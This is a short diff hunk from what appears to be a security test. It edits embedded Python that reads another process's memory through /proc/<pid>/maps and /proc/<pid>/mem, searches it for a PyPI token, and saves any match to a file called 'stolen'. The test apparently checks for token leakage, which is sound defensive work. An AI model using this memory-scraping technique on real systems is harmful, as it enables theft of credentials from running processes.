@@ -138,7 +138,7 @@ for line in open("/proc/{runner.pid}/maps"):
     if "[heap]" in line or (rights == "rw-p" and line.split()[4] == "0"):
         with open("/proc/{runner.pid}/mem", "rb", 0) as memory:
             memory.seek(int(start, 16))
-            if found := re.search(rb"pypi-x+", memory.read(int(end, 16) - int(start, 16))):
+            if found := re.search(rb"pypi-x{{40}}", memory.read(int(end, 16) - int(start, 16))):
                 open("stolen", "wb").write(found[0])
 """
         ended = real.run(python(reads))
